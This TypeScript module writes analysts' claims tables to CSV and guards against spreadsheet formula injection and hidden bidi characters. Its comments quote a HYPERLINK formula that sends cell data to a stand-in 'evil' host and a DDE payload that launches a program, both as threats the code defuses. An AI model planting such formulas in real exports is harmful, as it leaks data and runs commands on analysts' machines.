// CSV export (RFC 4180) for tables analysts open in spreadsheets: CRLF line
// ends, every text field quoted, inner quotes doubled. Text cells are also
// defused against spreadsheet formula injection, and hidden bidi and
// zero-width characters are written out so a cell cannot read as something
// it is not.
import { claimStatusLabel, claimTypeLabel, type ClaimStatus, type ClaimType } from '../domain/claim'
import { confidenceLabel, type Confidence, type Credibility, type Reliability } from '../domain/scales'
import { isolate, needsIsolation, spelledOut } from '../text/invisible'

export type CsvValue = string | number | boolean | null | undefined

export interface CsvOptions {
  /**
   * Start with a UTF-8 byte-order mark. Excel reads a CSV without one in the
   * local ANSI code page, which turns Arabic (and any non-Latin) text into
   * mojibake; other tools ignore the mark.
   */
  bom?: boolean
}

// Spreadsheets (Excel, LibreOffice, Google Sheets) evaluate a cell whose text
// begins with one of = + - @ as a formula, so a statement copied from a
// hostile page such as `=HYPERLINK("http://evil/?"&A1,"click")` or
// `@SUM(...)` would run on the analyst's machine or leak data. A leading
// apostrophe makes the spreadsheet show the text as text (OWASP "CSV
// injection" advice). Also caught: TAB and CR, which some spreadsheets strip
// before they see the formula; leading white space before a formula
// character, which some trim; and the full-width ＝ ＋ － ＠ that Excel
// accepts as formula starts in East Asian locales. A field opened with FSI
// (see below) is checked after it. The cost: text that merely looks like a
// negative number ("-12", "-3 %") or starts with "+" gets the apostrophe too.
// Real numbers passed as numbers are written as they are: they cannot be
// formulas.
const formulaStart = /^\u2068?(?:[\t\r]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/

/**
 * One text cell: hidden bidi and zero-width characters written out by name
 * ("[U+202E RIGHT-TO-LEFT OVERRIDE]") so they cannot reorder the cell, the
 * cell wrapped in FSI…PDI when it holds right-to-left text or held such a
 * character (its direction cannot spill into the next cell), then defused,
 * then always quoted: a field left bare is split by a spreadsheet whose list
 * separator is ";" (`x;=cmd|' /C calc'!A0` would become a live formula cell),
 * and quoting every one also keeps leading and trailing spaces.
 */
function textField(value: string): string {
  let s = spelledOut(value)
  if (needsIsolation(value)) s = isolate(s)
  if (formulaStart.test(s)) s = `'${s}`
  return `"${s.replace(/"/g, '""')}"`
}

/** One field: numbers and booleans as they are, null and undefined empty, text as `textField`. */
export function csvField(value: CsvValue): string {
  if (value === null || value === undefined) return ''
  return typeof value === 'string' ? textField(value) : String(value)
}

/** A CSV document: a header record, then one record per row, each ending in CRLF. */
export function toCsv(
  headers: readonly string[],
  rows: readonly (readonly CsvValue[])[],
  options: CsvOptions = {},
): string {
  const records = [headers, ...rows].map((r) => `${r.map(csvField).join(',')}\r\n`)
  return (options.bom ? '\uFEFF' : '') + records.join('')
}

/**
 * The columns of the claims table. The renderer's ClaimRow has this shape
 * (and more), so it can be passed as it is.
 */
export interface ClaimCsvRow {
  statement: string
  type: ClaimType
  /** Name of the attributed source, '' when none. */
  source: string
  /** Name of the channel, '' when none. */
  via: string
  /** Admiralty code, e.g. "B2". */
  grade: string
  reliability: Reliability | null
  credibility: Credibility | null
  status: ClaimStatus
  /** The likelihood term as written, e.g. "likely"; '' when none. */
  likelihood: string
  confidence: Confidence | null
  occurred: string
  reported: string
  places: readonly string[]
  tags: readonly string[]
  notes: string
}

export const claimCsvHeaders = [
  'Statement',
  'Type',
  'Source',
  'Via',
  'Grade',
  'Reliability',
  'Credibility',
  'Status',
  'Likelihood',
  'Confidence',
  'Occurred',
  'Reported',
  'Places',
  'Tags',
  'Notes',
] as const

/** Lists (places, tags) share one cell, "; "-separated, the way analysts write them. */
const listCell = (items: readonly string[]) => items.join('; ')

/**
 * The claims table as CSV, one row per claim. Likelihood and confidence are
 * two columns (ICD 203: never one phrase). A BOM is added by default so Excel
 * shows Arabic correctly; pass `{ bom: false }` for other consumers.
 */
export function claimsToCsv(rows: readonly ClaimCsvRow[], options: CsvOptions = { bom: true }): string {
  return toCsv(
    claimCsvHeaders,
    rows.map((r) => [
      r.statement,
      claimTypeLabel(r.type),
      r.source,
      r.via,
      r.grade,
      r.reliability ?? '',
      r.credibility ?? '',
      claimStatusLabel(r.status),
      r.likelihood,
      r.confidence ? confidenceLabel(r.confidence) : '',
      r.occurred,
      r.reported,
      listCell(r.places),
      listCell(r.tags),
      r.notes,
    ]),
    options,
  )
}
